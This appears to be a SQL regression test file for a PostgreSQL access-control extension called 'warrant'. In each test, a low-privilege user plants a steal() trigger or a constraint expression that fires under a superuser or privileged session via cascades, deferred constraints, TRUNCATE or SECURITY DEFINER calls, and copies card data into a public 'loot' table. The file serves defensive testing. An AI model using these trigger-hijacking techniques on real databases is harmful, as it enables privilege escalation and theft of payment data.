-- Triggers that fire when the code that queued them is over, and so without a switch of users: below a foreign key's action at the end of the
-- statement around it, deferred ones, and those of tables that TRUNCATE reaches by CASCADE. What clerk has left there, before a superuser, an
-- exempt user or one with a grant comes along.

--- row_after_cascade: AFTER ROW, below the cascade of a superuser's DELETE
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- row_after_cascade_by_exempt: the same of an exempt user's
-- needs SELECT, EXPORT on orders
-- subject helper
-- setup
GRANT ALL ON notes, orders TO helper;
-- gate
GRANT warrant_exempt TO helper;
SELECT warrant.protect('orders');
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - helper
DELETE FROM notes WHERE id = 2;

--- row_after_cascade_by_grantee: the same of one who has a grant
-- needs SELECT, EXPORT on orders
-- subject helper
-- setup
GRANT ALL ON notes, orders TO helper;
-- gate
SELECT warrant.protect('orders');
SELECT warrant.grant('helper', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - helper
DELETE FROM notes WHERE id = 2;

--- statement_after_cascade: AFTER STATEMENT, where the cascade has found no row
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
DELETE FROM child;
CREATE TRIGGER steal AFTER DELETE ON child FOR EACH STATEMENT EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- transition_after_cascade: the same with a transition table
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON child REFERENCING OLD TABLE AS gone FOR EACH STATEMENT EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- immediate_constraint_after_null: a constraint trigger that fires at once, below SET NULL
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE SET NULL);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER steal AFTER UPDATE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- row_after_default: AFTER ROW, below SET DEFAULT
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int DEFAULT 1 REFERENCES notes ON DELETE SET DEFAULT);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER UPDATE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- row_after_update_cascade: AFTER ROW, below ON UPDATE CASCADE
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON UPDATE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER UPDATE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
UPDATE notes SET id = 3 WHERE id = 2;

--- row_after_cascade_of_cascade: below the cascade of a cascade, of a superuser's table between
-- needs SELECT, EXPORT on orders
-- subject dba
-- setup
CREATE TABLE middle (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO middle VALUES (1, 2);
GRANT ALL ON middle TO clerk;
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE grandchild (id int REFERENCES shop.middle ON DELETE CASCADE);
INSERT INTO grandchild VALUES (1);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON grandchild FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- row_after_cascade_in_part: in a partition of clerk's of a table that a superuser owns
-- needs SELECT, EXPORT on orders
-- subject dba
-- setup
CREATE TABLE child (id int, note int REFERENCES notes ON DELETE CASCADE) PARTITION BY RANGE (id);
CREATE TABLE desk.part PARTITION OF child FOR VALUES FROM (1) TO (10);
ALTER TABLE desk.part OWNER TO clerk;
INSERT INTO child VALUES (1, 2);
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON part FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- row_before_cascade_in_part: a BEFORE trigger there, which runs as the superuser
-- needs SELECT, EXPORT on orders
-- subject dba
-- setup
CREATE TABLE child (id int, note int REFERENCES notes ON DELETE CASCADE) PARTITION BY RANGE (id);
CREATE TABLE desk.part PARTITION OF child FOR VALUES FROM (1) TO (10);
ALTER TABLE desk.part OWNER TO clerk;
INSERT INTO child VALUES (1, 2);
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal BEFORE DELETE ON part FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- cascade_into_other_part: a row that ON UPDATE CASCADE moves into a partition of clerk's
-- needs SELECT, EXPORT on orders
-- subject dba
-- setup
CREATE TABLE child (note int REFERENCES notes ON UPDATE CASCADE) PARTITION BY RANGE (note);
CREATE TABLE first PARTITION OF child FOR VALUES FROM (1) TO (10);
CREATE TABLE desk.part PARTITION OF child FOR VALUES FROM (10) TO (100);
ALTER TABLE desk.part OWNER TO clerk;
INSERT INTO child VALUES (2);
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER INSERT ON part FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
UPDATE shop.notes SET id = 20 WHERE id = 2;

--- deferred_after_cascade: deferred, fired by COMMIT
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER steal AFTER DELETE ON child DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- deferred_after_cascade_by_exempt: the same for an exempt user
-- needs SELECT, EXPORT on orders
-- subject helper
-- setup
GRANT ALL ON notes, orders TO helper;
-- gate
GRANT warrant_exempt TO helper;
SELECT warrant.protect('orders');
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER steal AFTER DELETE ON child DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
\c - helper
DELETE FROM notes WHERE id = 2;

--- deferred_made_immediate: the same, fired by SET CONSTRAINTS
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER steal AFTER DELETE ON child DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
BEGIN;
DELETE FROM shop.notes WHERE id = 2;
SET CONSTRAINTS ALL IMMEDIATE;
COMMIT;

--- deferred_in_savepoint: the same, queued in a subtransaction that ends before
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER steal AFTER DELETE ON child DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
BEGIN;
SAVEPOINT a;
DELETE FROM shop.notes WHERE id = 2;
RELEASE a;
COMMIT;

--- deferred_at_procedures_commit: the same, fired by the COMMIT of a procedure
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE CONSTRAINT TRIGGER steal AFTER DELETE ON child DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DO $$ BEGIN DELETE FROM shop.notes WHERE id = 2; COMMIT; END $$;

--- deferred_by_definer: queued by a SECURITY DEFINER function that an exempt user calls
-- needs SELECT, EXPORT on orders
-- subject helper
-- setup
GRANT ALL ON orders TO helper;
-- gate
GRANT warrant_exempt TO helper;
SELECT warrant.protect('orders');
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TABLE own (i int);
CREATE CONSTRAINT TRIGGER steal AFTER INSERT ON own DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
CREATE FUNCTION harmless() RETURNS void LANGUAGE sql SECURITY DEFINER AS 'INSERT INTO desk.own VALUES (1)';
\c - helper
SELECT desk.harmless();

--- deferred_by_copy: the same, by COPY in a function that a superuser calls
-- needs SELECT, EXPORT on orders
-- subject dba
-- setup
GRANT pg_execute_server_program TO clerk;
-- gate
SELECT warrant.protect('orders');
SELECT warrant.grant('clerk', '{ADMIN}', on_database => true, duration => '10 min');
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TABLE own (i text);
CREATE CONSTRAINT TRIGGER steal AFTER INSERT ON own DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
CREATE FUNCTION harmless() RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $$ BEGIN COPY desk.own FROM PROGRAM 'echo 1'; END $$;
\c - dba
SELECT desk.harmless();

--- deferred_by_trigger: queued by a trigger that fires below a cascade itself
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TABLE own (i int);
CREATE CONSTRAINT TRIGGER steal AFTER INSERT ON own DEFERRABLE INITIALLY DEFERRED FOR EACH ROW EXECUTE FUNCTION steal();
CREATE FUNCTION queue() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO desk.own VALUES (1); RETURN NULL; END $$;
CREATE TRIGGER queue AFTER DELETE ON child FOR EACH ROW EXECUTE FUNCTION queue();
\c - dba
DELETE FROM notes WHERE id = 2;

--- truncate_before_cascade: BEFORE TRUNCATE of a table that CASCADE reaches
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal BEFORE TRUNCATE ON child FOR EACH STATEMENT EXECUTE FUNCTION steal();
\c - dba
TRUNCATE shop.notes CASCADE;

--- truncate_after_cascade: AFTER TRUNCATE of such a table
-- needs SELECT, EXPORT on orders
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER TRUNCATE ON child FOR EACH STATEMENT EXECUTE FUNCTION steal();
\c - dba
TRUNCATE shop.notes CASCADE;

--- trigger_sets_role: it takes on its owner's role, as if the session had
-- needs SELECT, EXPORT on orders
-- until 17
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
    IF session_user <> 'clerk' THEN SET ROLE clerk; INSERT INTO desk.loot SELECT card FROM shop.orders; END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- parallel_after_cascade: it reads in a parallel worker alone
-- needs SELECT, EXPORT on orders
-- subject dba
-- until 15
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
GRANT INSERT ON loot TO PUBLIC;
CREATE TABLE child (id int PRIMARY KEY, note int REFERENCES notes ON DELETE CASCADE);
INSERT INTO child VALUES (1, 2);
CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql STABLE PARALLEL SAFE AS $$ BEGIN RETURN (SELECT max(card) FROM shop.orders); END $$;
CREATE FUNCTION steal() RETURNS trigger LANGUAGE plpgsql SET force_parallel_mode = on AS $$
DECLARE
    t text;
BEGIN
    IF session_user <> 'clerk' THEN
        SELECT desk.peek() INTO t FROM pg_class LIMIT 1;
        INSERT INTO desk.loot VALUES (t);
    END IF;
    RETURN NULL;
END $$;
CREATE TRIGGER steal AFTER DELETE ON child FOR EACH ROW EXECUTE FUNCTION steal();
\c - dba
DELETE FROM notes WHERE id = 2;

--- expression_rechecked: a constraint that waits computes its expression at COMMIT, for a row that ON UPDATE CASCADE has written
-- needs SELECT, EXPORT on orders
-- until 17
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
CREATE FUNCTION steal() RETURNS text LANGUAGE plpgsql AS $$ BEGIN INSERT INTO desk.loot SELECT card FROM shop.orders; RETURN ''; END $$;
CREATE FUNCTION spy(i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
DECLARE
    t text;
BEGIN
    IF session_user = 'clerk' THEN RETURN i; END IF;
    IF current_user = 'clerk' THEN RETURN 1; END IF;
    t := desk.steal();
    RETURN 7;
END $$;
CREATE TABLE child (note int REFERENCES notes ON UPDATE CASCADE, EXCLUDE USING btree (spy(note) WITH =) DEFERRABLE INITIALLY DEFERRED);
INSERT INTO child VALUES (1), (2);
\c - dba
UPDATE shop.notes SET id = 3 WHERE id = 2;

--- expression_rechecked_at_once: the same at the statement's end
-- needs SELECT, EXPORT on orders
-- until 17
-- subject dba
-- granted
SELECT warrant.grant('clerk', '{SELECT,EXPORT}', on_table => 'orders', duration => '10 min');
-- attack
SET search_path = desk, shop;
CREATE TABLE loot (card text);
CREATE FUNCTION steal() RETURNS text LANGUAGE plpgsql AS $$ BEGIN INSERT INTO desk.loot SELECT card FROM shop.orders; RETURN ''; END $$;
CREATE FUNCTION spy(i int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
DECLARE
    t text;
BEGIN
    IF session_user = 'clerk' THEN RETURN i; END IF;
    IF current_user = 'clerk' THEN RETURN 1; END IF;
    t := desk.steal();
    RETURN 7;
END $$;
CREATE TABLE child (note int REFERENCES notes ON UPDATE CASCADE, EXCLUDE USING btree (spy(note) WITH =) DEFERRABLE);
INSERT INTO child VALUES (1), (2);
\c - dba
UPDATE shop.notes SET id = 3 WHERE id = 2;
